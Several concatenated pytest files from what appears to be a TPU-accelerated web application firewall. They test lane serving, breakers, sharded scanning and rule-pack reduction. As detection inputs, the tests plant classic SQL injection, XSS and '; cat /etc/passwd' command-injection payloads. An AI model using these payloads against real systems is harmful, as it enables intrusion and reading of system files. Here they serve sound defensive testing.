                      if ln.stats.stream_cycles]
        assert lanes_used == [0], lanes_used   # pinned to first serving
    finally:
        b3.close()
    assert got == want
    assert want[0]                    # the split attack was detected


# ------------------------------------------------- compiles / warmup

def test_steady_state_serving_never_recompiles(cr):
    """ISSUE 7 satellite: serve-time recompile count stays 0 — after
    the first pass of a traffic mix (and warm_lanes' tier pass), the
    same mix replays with ZERO fresh executables on any lane."""
    b = _mk(cr, n_lanes=4)
    try:
        b.warm_lanes(max_batch=16)
        assert b.pipeline.stats.engine_compiles == 0   # reset by warm
        reqs = _corpus(32, seed=11)
        _serve_all(b, reqs)                  # first pass may compile
        b.reset_latency_observations()
        for burst in (reqs[:16], reqs[16:20], reqs[20:21], reqs):
            _serve_all(b, list(burst))
        assert b.pipeline.stats.engine_compiles == 0, \
            "steady-state mesh serving paid a serve-time XLA compile"
    finally:
        b.close()


def test_hot_swap_replays_lane_shapes(cr):
    """The batcher hot-swap pre-compiles every LANE's device-bound
    executables for the new pack (seen_lane_shapes replay) — post-swap
    traffic of the same mix pays zero serve-time compiles and verdicts
    keep flowing from the new generation."""
    b = _mk(cr, n_lanes=3)
    try:
        reqs = _corpus(24, seed=5)
        _serve_all(b, reqs)
        lane_shapes = set(b.pipeline.seen_lane_shapes)
        assert lane_shapes, "mesh serving recorded no lane shapes"
        cr2 = compile_ruleset(parse_seclang(RULES))
        b.swap_ruleset(cr2)
        assert set(b.pipeline.seen_lane_shapes) >= lane_shapes
        b.pipeline.stats.reset_efficiency()
        got = _serve_all(b, reqs)
        assert b.pipeline.stats.engine_compiles == 0, \
            "post-swap mesh traffic recompiled (lane replay missed)"
        assert any(v.attack for v in got.values())
        assert all(v.generation == cr2.version
                   for v in got.values() if v.generation)
    finally:
        b.close()


# ------------------------------------------------------ lane faults

def test_single_lane_fault_degrades_capacity_only(cr):
    """dispatch_raise pinned to lane 1: its share fails open, ITS
    breaker opens, siblings serve on, no global fallback, and the lane
    recovers through its own half-open canary."""
    b = _mk(cr, n_lanes=3, breaker_failures=1, breaker_cooldown_s=0.3)
    try:
        warm = _corpus(24, seed=9)
        _serve_all(b, warm)                    # compile all lane shapes
        faults.install(FaultPlan.from_spec("dispatch_raise:lane=1,times=1"))
        got = _serve_all(b, _corpus(24, seed=10))
        assert len(got) == 24                  # exactly one verdict each
        assert any(v.attack and not v.fail_open for v in got.values())
        assert b.lanes.lane(1).breaker.trips == 1
        assert b.lanes.lane(0).breaker.trips == 0
        assert b.lanes.lane(2).breaker.trips == 0
        assert b.stats.cpu_fallback_batches == 0
        # recovery: the exhausted fault lets the half-open canary close
        deadline = time.monotonic() + 15
        while b.lanes.lane(1).breaker.state != CircuitBreaker.CLOSED \
                and time.monotonic() < deadline:
            _serve_all(b, _corpus(8, seed=12))
            time.sleep(0.05)
        assert b.lanes.lane(1).breaker.state == CircuitBreaker.CLOSED
    finally:
        faults.clear()
        b.close()


def test_all_lanes_down_serves_cpu_fallback(cr):
    """Only when EVERY lane is open does the global CPU confirm-only
    fallback engage — and it still produces real verdicts."""
    b = _mk(cr, n_lanes=2, breaker_failures=1, breaker_cooldown_s=30.0)
    try:
        _serve_all(b, _corpus(16, seed=13))
        for ln in b.lanes.lanes:
            ln.breaker.trip("test")
        got = _serve_all(b, _corpus(16, seed=14))
        assert len(got) == 16
        assert b.stats.cpu_fallback_batches >= 1
        assert any(v.attack and not v.fail_open for v in got.values())
    finally:
        b.close()


# -------------------------------------------------- observability

def test_metrics_healthz_and_dbg_lane_views(cr):
    from ingress_plus_tpu.control.dbg import render_breaker
    from ingress_plus_tpu.serve.server import ServeLoop

    b = _mk(cr, n_lanes=3)
    try:
        _serve_all(b, _corpus(24, seed=15))
        serve = ServeLoop(b, "/tmp/unused-mesh-lanes.sock")
        text = serve._metrics_text()
        assert "ipt_lane_count 3" in text
        for i in range(3):
            assert 'ipt_breaker_state{device="%d"}' % i in text
            assert 'ipt_dispatch_fill{device="%d"}' % i in text
            assert 'ipt_watchdog_hangs_total{device="%d"}' % i in text
            assert 'ipt_lane_rows_total{device="%d"}' % i in text
        status, _ctype, body = asyncio.run(
            serve._route_http("GET", "/healthz", b""))
        assert status.startswith("200")
        health = json.loads(body)
        lanes = health["robustness"]["lanes"]
        assert [ln["lane"] for ln in lanes] == [0, 1, 2]
        assert all(ln["breaker"]["state"] == "closed" for ln in lanes)
        # per-lane rows in /debug/slow exemplars: every retained
        # exemplar names the device that served it
        status, _ctype, body = asyncio.run(
            serve._route_http("GET", "/debug/slow", b""))
        slow = json.loads(body)["slowest"]
        assert slow and all("lane" in e for e in slow)
        out = render_breaker(health)
        assert "lanes:" in out and "TFRT_CPU" in out
    finally:
        b.close()


def test_readyz_mesh_stays_ready_with_one_dead_lane(cr):
    from ingress_plus_tpu.serve.server import ServeLoop

    b = _mk(cr, n_lanes=2, breaker_cooldown_s=60.0)
    try:
        serve = ServeLoop(b, "/tmp/unused-mesh-ready.sock")
        b.lanes.lane(1).breaker.trip("test")
        status, _ctype, body = asyncio.run(
            serve._route_http("GET", "/readyz", b""))
        assert status.startswith("200"), body   # one chip != unready
        assert json.loads(body)["ready"]
        b.lanes.lane(0).breaker.trip("test")
        status, _ctype, body = asyncio.run(
            serve._route_http("GET", "/readyz", b""))
        assert status.startswith("503")
        assert "breaker_open" in json.loads(body)["reasons"]
    finally:
        b.close()


def test_build_default_batcher_lane_serving(tmp_path):
    """The serve entrypoint wires --lanes through: warmed lane pool,
    rollout controller attached, and the --mesh/--lanes combination is
    rejected loudly (they parallelize the same chips differently)."""
    from ingress_plus_tpu.serve.server import build_default_batcher

    (tmp_path / "tiny.conf").write_text(RULES)
    b = build_default_batcher(rules_dir=str(tmp_path), max_batch=8,
                              warmup=True, scan_impl="pair", n_lanes=2)
    try:
        assert b.lanes.n == 2
        assert b.rollout is not None
        assert b.pipeline.stats.engine_compiles == 0   # warm + reset
        got = _serve_all(b, _corpus(8, seed=21))
        assert len(got) == 8
        assert any(v.attack for v in got.values())
    finally:
        b.close()
    with pytest.raises(ValueError):
        build_default_batcher(rules_dir=str(tmp_path), warmup=False,
                              scan_impl="pair", n_lanes=2,
                              mesh_spec="2x4")


# ------------------------------------------------- rollout on lanes

def test_staged_rollout_generation_correct_across_lanes():
    """PR 5 contract on the mesh: a staged rollout driven through a
    3-lane batcher reaches LIVE, every scanned verdict names exactly
    one of the two known generations, and the drift freeze still
    captures the incumbent."""
    from ingress_plus_tpu.control.rollout import (
        _DRILL_CANDIDATE,
        _DRILL_INCUMBENT,
        LIVE,
        REJECTED,
        ROLLED_BACK,
        RolloutConfig,
        RolloutController,
    )
    from ingress_plus_tpu.utils.faults import _collect, _requests

    inc = compile_ruleset(parse_seclang(_DRILL_INCUMBENT))
    cand = compile_ruleset(parse_seclang(_DRILL_CANDIDATE))
    b = _mk(inc, n_lanes=3)
    cfg = RolloutConfig(steps=(0.25, 1.0), step_min_requests=8,
                        shadow_min_requests=4, shadow_sample=1.0,
                        corpus_n=32, diff_min_compared=4)
    ro = RolloutController(b, cfg)
    b.rollout = ro
    try:
        _collect([b.submit(r) for r in _requests(16, tag="warm")], 60)
        ro.admit(ruleset=cand)
        verdicts = []
        deadline = time.monotonic() + 60
        wave = 0
        while ro.state not in (LIVE, REJECTED, ROLLED_BACK) \
                and time.monotonic() < deadline:
            futs = [b.submit(r) for r in
                    _requests(24, attack_every=4, tag="m%d" % wave)]
            vs, viol = _collect(futs, timeout_s=30)
            assert not viol, viol
            verdicts += vs
            wave += 1
        assert ro.state == LIVE, (ro.state, ro.rollback_reason)
        assert b.pipeline.ruleset.version == cand.version
        gens = {v.generation for v in verdicts if v.generation}
        assert gens <= {inc.version, cand.version}, gens
        assert any(v.generation == cand.version for v in verdicts)
        assert b.pipeline.frozen_rule_stats is not None
        assert b.pipeline.frozen_rule_stats.version == inc.version
    finally:
        b.close()
