"""Multi-chip sharding on the virtual 8-device CPU mesh (the kind-cluster
analog, SURVEY.md §4): TP ruleset sharding must be bit-identical to the
single-device engine; SP ring scan must equal a contiguous scan."""

import numpy as np
import pytest

import jax

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.compiler.bitap import reference_scan
from ingress_plus_tpu.models.engine import DetectionEngine
from ingress_plus_tpu.ops.scan import ScanTables, pad_rows
from ingress_plus_tpu.parallel import ShardedEngine, make_mesh
from ingress_plus_tpu.parallel.stream import ring_scan


@pytest.fixture(scope="module")
def ruleset():
    return compile_ruleset(load_bundled_rules())


def test_eight_virtual_devices():
    assert len(jax.devices()) == 8, jax.devices()


def _mk_batch(ruleset, n_req=8, rows_per_req=2):
    """Rows laid out data-shard-major: request q's rows are contiguous."""
    rng = np.random.default_rng(5)
    payloads = [
        b"GET /search?q=1' UNION SELECT password FROM users--",
        b"<script>alert(1)</script>",
        b"; cat /etc/passwd",
        b"plain benign text about shoes and prices",
    ]
    rows, row_req = [], []
    for q in range(n_req):
        for r in range(rows_per_req):
            rows.append(payloads[(q + r) % len(payloads)])
            row_req.append(q)
    tokens, lengths = pad_rows(rows, round_to=64)
    from ingress_plus_tpu.compiler.ruleset import N_SV, VARIANTS
    from ingress_plus_tpu.compiler.seclang import STREAM_INDEX

    sv = np.zeros((len(rows), N_SV), np.int8)
    a = STREAM_INDEX["args"] * len(VARIANTS)
    sv[:, a:a + len(VARIANTS)] = 1  # args stream, every variant
    return tokens, lengths, np.asarray(row_req, np.int32), sv


def test_tp_sharded_equals_single_device(ruleset):
    mesh = make_mesh(n_data=1, n_model=8)
    eng = ShardedEngine(ruleset, mesh)
    tokens, lengths, row_req, row_sv = _mk_batch(ruleset)
    tenants = np.zeros((8,), np.int32)
    rh, ch, sc = eng.detect(tokens, lengths, row_req, row_sv, tenants, 8)

    single = DetectionEngine(ruleset)
    rh1, ch1, sc1 = single.detect(tokens, lengths, row_req, row_sv, 8)
    assert (rh == rh1).all(), "TP sharded rule hits differ"
    assert (ch == ch1).all()
    assert (sc == sc1).all()


def test_dp_tp_mesh(ruleset):
    mesh = make_mesh(n_data=2, n_model=4)
    eng = ShardedEngine(ruleset, mesh)
    tokens, lengths, row_req, row_sv = _mk_batch(ruleset)
    # shard-local request ids: each data shard owns 4 consecutive requests
    local_req = row_req % 4
    tenants = np.zeros((8,), np.int32)
    rh, ch, sc = eng.detect(tokens, lengths, local_req, row_sv, tenants, 8)

    single = DetectionEngine(ruleset)
    rh1, ch1, sc1 = single.detect(tokens, lengths, row_req, row_sv, 8)
    assert (rh == rh1).all()
    assert (sc == sc1).all()


def test_ep_tenant_masking(ruleset):
    """Tenant 0 sees only sqli rules; tenant 1 sees everything."""
    R = ruleset.n_rules
    sqli_only = np.zeros((2, R), bool)
    sqli_only[0] = np.asarray(
        [m.rule.attack_class == "sqli" for m in ruleset.rules])
    sqli_only[1] = True
    mesh = make_mesh(n_data=1, n_model=8)
    eng = ShardedEngine(ruleset, mesh, tenant_rule_mask=sqli_only)
    tokens, lengths, row_req, row_sv = _mk_batch(ruleset)

    t0 = np.zeros((8,), np.int32)      # all requests tenant 0
    rh0, _, _ = eng.detect(tokens, lengths, row_req, row_sv, t0, 8)
    t1 = np.ones((8,), np.int32)
    rh1, _, _ = eng.detect(tokens, lengths, row_req, row_sv, t1, 8)

    non_sqli_hits0 = rh0[:, ~sqli_only[0]].sum()
    assert non_sqli_hits0 == 0, "tenant mask leaked non-sqli rules"
    assert rh1.sum() >= rh0.sum()
    # xss request must still hit for tenant 1 but not tenant 0
    xss_rules = np.asarray(
        [m.rule.attack_class == "xss" for m in ruleset.rules])
    assert rh1[:, xss_rules].any()
    assert not rh0[:, xss_rules].any()


def test_sp_ring_scan_equals_contiguous(ruleset):
    mesh = make_mesh(n_data=1, n_model=8)
    tables = ScanTables.from_bitap(ruleset.tables)
    rng = np.random.default_rng(11)
    B, L = 4, 1024  # 8 shards × 128 bytes
    tokens = rng.integers(32, 127, size=(B, L), dtype=np.int32)
    # plant an attack SPANNING the shard boundary at L/8 (byte 128)
    atk = b"1' UNION SELECT password FROM users--"
    tokens[0, 120:120 + len(atk)] = np.frombuffer(atk, np.uint8)
    tokens[1, 1024 - len(atk):] = np.frombuffer(atk, np.uint8)

    merged = np.asarray(ring_scan(tables, mesh, tokens))
    for i in range(B):
        want = reference_scan(
            ruleset.tables, tokens[i].astype(np.uint8).tobytes())
        got = merged[i][: want.shape[0]]
        assert (got == want).all(), "ring scan row %d differs" % i


def test_sp_boundary_attack_detected(ruleset):
    """The boundary-spanning attack must appear in the merged mask."""
    mesh = make_mesh(n_data=1, n_model=8)
    tables = ScanTables.from_bitap(ruleset.tables)
    B, L = 1, 256  # 8 shards × 32 bytes — aggressive splitting
    tokens = np.full((B, L), ord("x"), np.int32)
    atk = b"/etc/passwd"
    tokens[0, 30:30 + len(atk)] = np.frombuffer(atk, np.uint8)  # spans 32
    merged = np.asarray(ring_scan(tables, mesh, tokens))
    want = reference_scan(ruleset.tables, tokens[0].astype(np.uint8).tobytes())
    assert want.any()
    assert (merged[0][: want.shape[0]] == want).all()


def test_sp_ring_scan_ragged_rows(ruleset):
    """VERDICT r04 item #6: per-row lengths in the ring scan.  Rows
    shorter than the padded width must scan exactly their own bytes —
    a planted attack INSIDE the padding region must NOT match, and the
    merged mask must equal the single-device engine's on the same
    (tokens, lengths)."""
    from ingress_plus_tpu.ops.scan import scan_bytes_jit

    mesh = make_mesh(n_data=1, n_model=8)
    tables = ScanTables.from_bitap(ruleset.tables)
    rng = np.random.default_rng(23)
    B, L = 4, 1024  # 8 shards x 128 bytes
    tokens = rng.integers(97, 122, size=(B, L), dtype=np.int32)
    lengths = np.asarray([1024, 300, 130, 64], np.int32)
    atk = b"1' UNION SELECT password FROM users--"
    # row 0: attack spanning the shard-3 boundary (byte 384)
    tokens[0, 380:380 + len(atk)] = np.frombuffer(atk, np.uint8)
    # row 1: attack inside its 300 valid bytes, spanning shard boundary
    tokens[1, 120:120 + len(atk)] = np.frombuffer(atk, np.uint8)
    # row 2: attack ENTIRELY in padding (beyond byte 130) — dead bytes
    tokens[2, 200:200 + len(atk)] = np.frombuffer(atk, np.uint8)
    # row 3: 64 valid bytes, all within shard 0

    merged = np.asarray(ring_scan(tables, mesh, tokens, lengths=lengths))
    want, _ = scan_bytes_jit(tables, tokens, lengths, gather="take")
    want = np.asarray(want)
    assert (merged == want).all()
    # absolute grounding: the padding attack really is invisible, the
    # in-bounds attacks really are found
    ref1 = reference_scan(
        ruleset.tables, tokens[1, :300].astype(np.uint8).tobytes())
    assert ref1.any() and (merged[1][: ref1.shape[0]] == ref1).all()
    ref2 = reference_scan(
        ruleset.tables, tokens[2, :130].astype(np.uint8).tobytes())
    assert (merged[2][: ref2.shape[0]] == ref2).all()


def test_sp_ring_scan_config5_mixed_1mb_batch(ruleset):
    """VERDICT r04 weak-item #5: the ring at the REAL config-#5 geometry
    — an actual 1MB body and a mixed 100KB/1MB ragged batch across the
    8-device mesh, with a boundary-spanning attack — not just the toy
    L=64*n shapes."""
    from ingress_plus_tpu.ops.scan import scan_bytes_jit

    mesh = make_mesh(n_data=1, n_model=8)
    tables = ScanTables.from_bitap(ruleset.tables)
    rng = np.random.default_rng(29)
    B, L = 2, 1 << 20                   # 1 MiB, 8 shards x 128 KiB
    shard = L // 8
    tokens = rng.integers(97, 122, size=(B, L), dtype=np.int32)
    lengths = np.asarray([L, 100 * 1024], np.int32)
    atk = b"1' UNION SELECT password FROM users--"
    # row 0 (full 1MB): attack spans the shard-1 boundary
    tokens[0, shard - 16:shard - 16 + len(atk)] = np.frombuffer(atk, np.uint8)
    # row 1 (100KB): attack inside the valid prefix...
    tokens[1, 50_000:50_000 + len(atk)] = np.frombuffer(atk, np.uint8)
    # ...and one planted far beyond its length — must stay invisible
    tokens[1, 500_000:500_000 + len(atk)] = np.frombuffer(atk, np.uint8)

    merged = np.asarray(ring_scan(tables, mesh, tokens, lengths=lengths))
    want, _ = scan_bytes_jit(tables, tokens, lengths, gather="take")
    assert (merged == np.asarray(want)).all()
    # the boundary-spanning and in-prefix attacks are present
    assert merged[0].any() and merged[1].any()


def test_tp_pallas2_shard_parity(ruleset):
    """Round-4: the per-shard Pallas class-pair kernel must produce the
    same verdicts as the XLA scans through the full sharded step
    (interpret mode on the CPU test mesh — same kernel code path as the
    TPU lowering)."""
    mesh = make_mesh(n_data=2, n_model=4)
    eng = ShardedEngine(ruleset, mesh, scan_impl="take")
    tokens, lengths, row_req, row_sv = _mk_batch(ruleset)
    local_req = row_req % 4   # detect() takes SHARD-LOCAL request ids
    tenants = np.zeros((8,), np.int32)
    out_take = eng.detect(tokens, lengths, local_req, row_sv, tenants, 8)
    assert np.asarray(out_take[2]).max() > 0   # parity must be non-vacuous
    eng.pallas_interpret = True
    eng.set_scan_impl("pallas2")
    out_p2 = eng.detect(tokens, lengths, local_req, row_sv, tenants, 8)
    for a, b in zip(out_take, out_p2):
        assert (np.asarray(a) == np.asarray(b)).all()


def test_tp_scan_impl_parity_and_autoselect(ruleset):
    """Round-4 (VERDICT item #7): the sharded step must produce identical
    verdicts under the pair-stride and gather scans, and autoselect must
    measure both and install a valid winner."""
    mesh = make_mesh(n_data=2, n_model=4)
    eng = ShardedEngine(ruleset, mesh, scan_impl="take")
    tokens, lengths, row_req, row_sv = _mk_batch(ruleset)
    local_req = row_req % 4   # detect() takes SHARD-LOCAL request ids
    tenants = np.zeros((8,), np.int32)
    out_take = eng.detect(tokens, lengths, local_req, row_sv, tenants, 8)
    assert np.asarray(out_take[2]).max() > 0   # parity must be non-vacuous
    eng.set_scan_impl("pair")
    out_pair = eng.detect(tokens, lengths, local_req, row_sv, tenants, 8)
    for a, b in zip(out_take, out_pair):
        assert (np.asarray(a) == np.asarray(b)).all()
    best = eng.autoselect_scan_impl(B=32, L=128, iters=3)
    assert best in ("pair", "take")
    assert eng.scan_impl == best
    out_best = eng.detect(tokens, lengths, local_req, row_sv, tenants, 8)
    for a, b in zip(out_take, out_best):
        assert (np.asarray(a) == np.asarray(b)).all()
