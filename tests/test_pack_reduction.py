"""Interned/merged-pack equivalence suite (ISSUE 6).

The pack-size-invariant scan kernel rewrites the factor universe
(compiler/reduce.py) and the bit layout (compiler/bitap.py prefix
merging, word tiering).  These tests pin its two contracts:

  * SOUNDNESS — the reduced prefilter's candidates are a SUPERSET of
    the exact pack's on any input (property-style over seeded random
    rule subsets and corpus rows), and confirm-lane verdicts are
    byte-identical (the confirm stage decides; reduction may only add
    confirm work).
  * BUDGET BOUNDARY — budget=0 disables every approximate op: tables
    are bit-identical to the legacy compile.
"""

from __future__ import annotations

import random

import numpy as np
import pytest

from ingress_plus_tpu.compiler.bitap import (
    factors_to_rules,
    matches_to_factors,
    pack_factors,
    reference_scan,
)
from ingress_plus_tpu.compiler.reduce import (
    ReductionConfig,
    batch_reference_scan,
    byte_model,
    candidate_matrix,
    coarsen_byte_classes,
    measure_inflation,
    reduce_rule_groups,
)
from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import merge_rows, rows_for_requests
from ingress_plus_tpu.utils.corpus import generate_corpus


def _lit(s: str):
    return tuple(frozenset([c]) for c in s.encode())


@pytest.fixture(scope="module")
def bundled():
    return load_bundled_rules()


@pytest.fixture(scope="module")
def corpus_rows():
    corpus = generate_corpus(n=96, attack_fraction=0.3, seed=5)
    data_list, _, _ = merge_rows(
        rows_for_requests([lr.request for lr in corpus]))
    return data_list[:400]


# ------------------------------------------------------- budget boundary


def test_budget_zero_is_bit_identical(bundled):
    """budget=0 ⇒ no approximate op fires: tables match the legacy
    compile bit for bit, whatever the other approximate knobs say."""
    sub = bundled[:220]
    legacy = compile_ruleset(sub, reduction=ReductionConfig.off())
    zero = compile_ruleset(sub, reduction=ReductionConfig(
        budget=0.0, max_factor_len=12, fold_merge=True, pair_merge=True,
        class_merge=True, prefix_merge=False, word_tiering=False))
    for name in ("byte_table", "init_mask", "final_mask", "factor_word",
                 "factor_bit", "factor_len", "factor_rule_indptr",
                 "factor_rule_ids", "rule_nfactors"):
        np.testing.assert_array_equal(
            getattr(legacy.tables, name), getattr(zero.tables, name),
            err_msg=name)
    assert legacy.reduction is None
    # budget=0 still reports an (all-zero) provenance block when the
    # reduction path ran
    assert zero.reduction is None or zero.reduction["factors_out"] == \
        zero.reduction["factors_in"]


def test_budget_zero_reduce_is_identity():
    groups = [[_lit("union select"), _lit("benchmark(")], [_lit("union")]]
    out, rep = reduce_rule_groups(groups, ReductionConfig(budget=0.0))
    assert out == groups
    assert rep.truncated == rep.fold_merged == rep.pair_merged == 0


def test_pair_merge_vetoes_wire_literal_unions():
    """Regression (retunegate): a profile-priced pair merge once produced
    a union whose positionwise classes covered "user-agent", firing on
    every request's header row while _seq_prob's independent-byte model
    priced it as astronomically rare.  Unions covering ubiquitous wire
    tokens must be vetoed, not priced."""
    a, b = _lit("usem-agent"), _lit("user-agemt")
    out, rep = reduce_rule_groups([[a], [b]], ReductionConfig(budget=1.0))
    assert out == [[a], [b]]          # union would cover "user-agent"
    assert rep.pair_merged == 0
    # same shape with no wire token in the union still merges — the
    # veto is targeted, not a blanket pair-merge disable
    c, d = _lit("benchmark("), _lit("benchmqrk(")
    _, rep2 = reduce_rule_groups([[c], [d]], ReductionConfig(budget=1.0))
    assert rep2.pair_merged == 2


# ------------------------------------------------------ prefix merging


def test_prefix_merge_exact_semantics():
    """A factor that is a prefix of another shares its bits; scan
    results stay exactly identical on hit and miss inputs."""
    g = [[_lit("union select")], [_lit("union")], [_lit("uni")],
         [_lit("select")]]
    plain = pack_factors(g)
    merged = pack_factors(g, prefix_merge=True)
    assert merged.n_prefix_shared == 2          # "union", "uni"
    assert merged.n_words <= plain.n_words
    for data in (b"union select 1", b"xx union", b"uni", b"none here",
                 b"selec", b"select *"):
        want = factors_to_rules(
            plain, matches_to_factors(plain, reference_scan(plain, data)))
        got = factors_to_rules(
            merged, matches_to_factors(merged, reference_scan(merged, data)))
        np.testing.assert_array_equal(want, got, err_msg=repr(data))


def test_prefix_merged_pack_decodes_and_audits_clean():
    """The rulecheck prefilter audit must decode factors THROUGH the
    shared-bit indirection (interior final bits, shared start bits) and
    still certify them."""
    from ingress_plus_tpu.analysis.prefilter_audit import (
        decode_factors,
        table_consistency,
    )

    g = [[_lit("passwd")], [_lit("passwd123")], [_lit("pass")]]
    t = pack_factors(g, prefix_merge=True)
    assert t.n_prefix_shared == 2
    assert table_consistency(t) == []
    decoded = decode_factors(t)
    # decode order is length-sorted; compare as sets of sequences
    assert set(decoded) == {_lit("passwd"), _lit("passwd123"),
                            _lit("pass")}


def test_word_tiering_places_tail_factors_last():
    g = [[_lit("request-side")], [_lit("response-only")]]
    t = pack_factors(g, prefix_merge=True,
                     rule_tier=np.asarray([0, 1], np.int32))
    assert t.n_head_words == 1
    assert int(t.factor_word[list(t.factor_len).index(13)]) >= 1


# --------------------------------------------- class coarsening (op 4)


def test_coarsen_byte_classes_is_monotone():
    g = [[_lit("select")], [_lit("szlect")], [_lit("union")]]
    t = pack_factors(g)
    owners = np.diff(t.factor_rule_indptr).astype(np.int64)
    bt2, n_merges, k_in, k_out, _spent = coarsen_byte_classes(
        t.byte_table, t.factor_word, t.factor_bit, t.factor_len,
        owners, budget_frac=10.0, merge_cap=64)
    assert n_merges > 0 and k_out < k_in
    # bits only ever added ⇒ matches only ever added
    assert ((bt2 & t.byte_table) == t.byte_table).all()
    t2 = pack_factors(g)
    t2.byte_table = bt2
    rng = random.Random(0)
    for _ in range(50):
        data = bytes(rng.randrange(32, 127)
                     for _ in range(rng.randint(0, 40)))
        m1 = reference_scan(t, data)
        m2 = reference_scan(t2, data)
        assert (m1 & ~m2).sum() == 0    # superset of match bits
    # and the known hits still hit
    h = factors_to_rules(t2, matches_to_factors(
        t2, reference_scan(t2, b"1 union szlect x")))
    assert h[1] and h[2]


# ------------------------------------- property: superset + verdicts


@pytest.mark.parametrize("seed", [0, 1, 2])
def test_random_subsets_candidates_superset_verdicts_identical(
        bundled, corpus_rows, seed):
    """For random rule subsets: the reduced pack's raw prefilter
    candidates are a superset of the exact pack's on corpus rows, and
    full-pipeline verdicts are byte-identical."""
    rng = random.Random(seed)
    sub = [r for r in bundled if rng.random() < 0.12]
    assert len(sub) > 50
    exact = compile_ruleset(sub, reduction=ReductionConfig.off())
    reduced = compile_ruleset(sub)
    assert reduced.tables.n_words <= exact.tables.n_words
    m = measure_inflation(exact.tables, reduced.tables, corpus_rows)
    assert m["lost_candidates"] == 0, m
    # verdict parity end to end (confirm decides; generation differs by
    # construction, elapsed is timing)
    corpus = generate_corpus(n=64, attack_fraction=0.3, seed=seed + 50)
    reqs = [lr.request for lr in corpus]
    ve = DetectionPipeline(exact, mode="block").detect(reqs)
    vr = DetectionPipeline(reduced, mode="block").detect(reqs)
    for a, b in zip(ve, vr):
        assert (a.blocked, a.attack, a.score, a.rule_ids, a.classes) == \
            (b.blocked, b.attack, b.score, b.rule_ids, b.classes)


def test_batch_reference_scan_matches_scalar(bundled, corpus_rows):
    sub = bundled[:150]
    cr = compile_ruleset(sub)
    rows = corpus_rows[:40]
    M = batch_reference_scan(cr.tables, rows)
    for i, r in enumerate(rows[:10]):
        np.testing.assert_array_equal(M[i], reference_scan(cr.tables, r))
    cm = candidate_matrix(cr.tables, rows[:10])
    assert cm.shape == (10, cr.n_rules)


# ----------------------------------------------------- head-slice path


def test_head_slice_rule_hits_match_full(bundled):
    """Bodyless batches may scan the sliced head words only; the
    resulting candidates must equal the full-table dispatch's for the
    same requests (tail factors belong to rules that cannot apply)."""
    cr = compile_ruleset(bundled)
    assert cr.tables.n_head_words < cr.tables.n_words
    corpus = generate_corpus(n=48, attack_fraction=0.4, seed=9)
    reqs = [lr.request for lr in corpus if not lr.request.body][:24]
    assert len(reqs) >= 8
    p = DetectionPipeline(cr, mode="block")
    assert p.engine.head_tables is not None
    hits_head = p.prefilter(reqs)
    head = p.engine.head_tables
    p.engine.head_tables = None          # force the full-width path
    hits_full = p.prefilter(reqs)
    p.engine.head_tables = head
    np.testing.assert_array_equal(hits_head, hits_full)


def test_reduction_report_round_trips(tmp_path, bundled):
    cr = compile_ruleset(bundled[:120])
    assert cr.reduction is not None
    assert cr.reduction["budget"] > 0
    p = tmp_path / "pack"
    cr.save(p)
    back = type(cr).load(p)
    assert back.reduction == cr.reduction
    assert back.tables.n_head_words == cr.tables.n_head_words
    np.testing.assert_array_equal(back.tables.byte_table,
                                  cr.tables.byte_table)


def test_body_only_pack_has_no_degenerate_head_slice():
    """A pack whose every scannable rule targets only body/response
    streams tiers ALL factors tail (n_head_words == 0): the engine must
    not build a zero-word head slice (its mapping gather would crash on
    warm_shape's head-twin pass during a hot swap — review finding)."""
    from ingress_plus_tpu.compiler.seclang import Rule

    rules = [Rule(rule_id=1, operator="rx", argument="evil_payload",
                  targets=["body"]),
             Rule(rule_id=2, operator="rx", argument="leak_marker",
                  targets=["resp_body"])]
    cr = compile_ruleset(rules)
    assert cr.tables.n_head_words == 0
    p = DetectionPipeline(cr, mode="block")
    assert p.engine.head_tables is None
    assert not p.engine.head_slicing_active()
    p.warm_shape(((8, 64),), 4)            # must not crash
    from ingress_plus_tpu.serve.normalize import Request

    v = p.detect([Request(request_id="x", uri="/a",
                          body=b"evil_payload=1")])[0]
    assert v.rule_ids == [1]


def test_byte_model_is_normalized():
    mu = byte_model()
    assert mu.shape == (256,)
    assert abs(float(mu.sum()) - 1.0) < 1e-9
    assert (mu > 0).all()
