"""Frozen r03 bench fixture (VERDICT r04 item #3).

The fixed-pack throughput leg is only meaningful if the fixture keeps
compiling to the EXACT pack BENCH_r03 measured — 1405 rules / 1233
factors / 343 scan words.  A drift here (conf edit, sigpack change
leaking in, compiler behavior change on old syntax) silently breaks
cross-round comparability, which is the leg's whole purpose.
"""

from __future__ import annotations

import bench


def test_fixed_pack_dimensions_pinned():
    cr = bench.load_fixed_pack()
    assert cr.n_rules == 1405
    assert cr.tables.n_factors == 1233
    assert cr.tables.n_words == 343


def test_fixed_pack_detects_classic_payloads():
    """The frozen pack must stay a WORKING ruleset, not just a blob
    with the right dimensions."""
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    p = DetectionPipeline(bench.load_fixed_pack(), mode="block")
    assert p.detect([Request(uri="/q?id=1' UNION SELECT password--")])[0].attack
    assert p.detect([Request(uri="/q?x=<script>alert(1)</script>")])[0].attack
    assert not p.detect([Request(uri="/blog?title=hello world")])[0].attack
