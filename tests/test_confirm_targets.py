"""Per-variable confirm evaluation (round-3, advisor findings 1+2).

The round-2 advisor verified two mass-false-positive generators:

  1. (high) negated operators evaluated the WHOLE coarse stream — a
     920160-shaped `REQUEST_HEADERS:Content-Length "!@rx ^\\d+$"` fired
     on every request because the headers blob never matches ^\\d+$.
  2. (medium) numeric operators atoi'd the whole stream text — a
     `REQUEST_HEADERS:Content-Length "@eq 0"` blocked a request with
     Content-Length: 500 because atoi("Host: ...") == 0.

Round 3 carries the original SecLang variable tokens through the
compiler (Rule.raw_targets -> confirm descriptor) and resolves
subfield selectors / counts / exclusions exactly in the confirm stage
(models/confirm.py _values_for).  These tests pin the advisor's own
repro cases plus the surrounding semantics.
"""

from __future__ import annotations

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.confirm import ConfirmRule
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request


